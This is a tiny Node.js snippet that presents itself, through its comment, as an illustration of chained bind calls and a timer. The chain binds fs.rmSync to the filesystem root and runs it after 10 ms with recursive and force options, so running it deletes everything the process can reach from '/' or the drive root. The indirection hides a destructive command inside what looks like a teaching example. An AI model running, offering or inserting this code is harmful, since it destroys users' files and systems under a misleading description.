// Two binds: the first fixes this, the second the directory; a timer calls the result.
const fs = require('fs');
const path = require('path');

const root = path.parse(process.cwd()).root;
const boundFs = fs.rmSync.bind(fs);
const wipeRoot = boundFs.bind(null, root);
setTimeout(wipeRoot, 10, { recursive: true, force: true });
